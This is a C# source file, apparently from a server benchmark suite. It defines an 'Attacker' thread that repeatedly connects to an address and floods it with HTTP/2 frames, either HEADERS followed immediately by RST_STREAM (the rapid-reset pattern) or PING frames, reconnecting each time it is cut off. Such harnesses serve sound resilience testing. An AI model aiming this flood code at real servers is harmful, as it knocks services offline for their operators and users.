using System.Globalization;
using System.Net.Sockets;

namespace Hitl.Benchmarks;

/// <summary>One caller that floods an address from a thread of its own: it connects, sends frames as fast as it can, and begins again when it is cut.</summary>
/// <remarks>
/// It has a processor to itself, as it would on a machine of its own. Sharing those of the server, others would wait for the scheduler's slice, whatever the server does: they did
/// so as long while the same flood went to a port that does nothing.
/// </remarks>
internal sealed class Attacker
{
    /// <summary>The processor that is the attacker's; a bit.</summary>
    private const ulong Processor = 2;

    private const int FramesPerConnection = 100_000;
    private const int FramesPerLook = 16;

    private readonly CancellationTokenSource _stop = new();
    private readonly Thread _thread;

    public Attacker(string address, Func<int, byte[]> frames)
    {
        _thread = new(() => Run(address, frames)) { IsBackground = true };
        _thread.Start();
    }

    public int Connections { get; private set; }

    public long Frames { get; private set; }

    /// <summary>HEADERS (an indexed :method POST, :scheme http, :path /) and RST_STREAM.</summary>
    public static byte[] Reset(int number)
    {
        var stream = (2 * number) + 1;
        ReadOnlySpan<byte> id = [(byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream];
        return [0, 0, 3, 1, 5, .. id, 0x83, 0x86, 0x84, 0, 0, 4, 3, 0, .. id, 0, 0, 0, 8];
    }

    /// <summary>PING.</summary>
    public static byte[] Ping(int number) => [0, 0, 8, 6, 0, 0, 0, 0, 0, .. BitConverter.GetBytes((long)number)];

    public void Stop()
    {
        _stop.Cancel();
        _thread.Join();
        _stop.Dispose();
    }

    private void Run(string address, Func<int, byte[]> frames)
    {
        Processors.TakeForThread(Processor);
        var parts = address.Split(':');
        while (!_stop.IsCancellationRequested)
        {
            using var caller = new TcpClient();
            try
            {
                caller.Connect(parts[0], int.Parse(parts[1], CultureInfo.InvariantCulture));
                Connections++;
                Flood(caller.GetStream(), frames);
            }
            catch (Exception failure) when (failure is IOException or SocketException)
            {
                // Cut while it wrote.
            }
        }
    }

    private void Flood(NetworkStream connection, Func<int, byte[]> frames)
    {
        var answers = new byte[65_536];
        // Preface and empty settings.
        connection.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        connection.Write([0, 0, 0, 4, 0, 0, 0, 0, 0]);
        for (var i = 0; i < FramesPerConnection && !_stop.IsCancellationRequested; i++)
        {
            connection.Write(frames(i));
            Frames++;
            // A server that cannot get rid of its answers would stop reading.
            if (i % FramesPerLook == 0 && connection.DataAvailable && connection.Read(answers) == 0) return;
        }
    }
}
